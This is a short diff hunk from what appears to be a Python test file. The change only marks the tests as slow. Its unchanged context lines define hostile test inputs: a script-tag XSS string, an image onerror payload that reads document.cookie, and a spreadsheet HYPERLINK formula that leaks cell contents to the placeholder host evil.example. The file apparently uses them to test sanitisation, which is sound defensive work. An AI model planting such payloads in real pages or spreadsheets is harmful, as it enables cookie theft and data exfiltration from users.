@@ -70,6 +70,8 @@ from tests.conftest import (
 )
 from tests.corpus import HOSTILE_TEXT
 
+pytestmark = pytest.mark.slow
+
 SCRIPT = "<script>alert(1)</script>"
 IMG = '<img src=x onerror="alert(document.cookie)">'
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
